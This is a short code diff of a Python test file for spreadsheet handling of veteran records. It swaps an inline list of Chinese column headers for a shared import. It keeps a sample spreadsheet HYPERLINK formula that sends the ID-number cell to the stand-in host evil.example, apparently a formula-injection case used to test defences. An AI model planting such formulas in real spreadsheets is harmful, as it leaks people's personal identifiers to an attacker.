@@ -9,23 +9,10 @@ import json
 import openpyxl
 import pytest
 
-from tests.factories import make_veteran, unique_id_numbers
+from tests.factories import COUNTY_SHEET_HEADERS, make_veteran, unique_id_numbers
 from tests.helpers import scalar
 
-HEADERS = [
-    "身份证号",
-    "姓名",
-    "手机",
-    "县市区代码",
-    "退役时间",
-    "退役类型",
-    "技能",
-    "意愿",
-    "就业状态",
-    "服务需求",
-    "意向职业",
-    "最低薪资",
-]
+HEADERS = COUNTY_SHEET_HEADERS
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
 
 
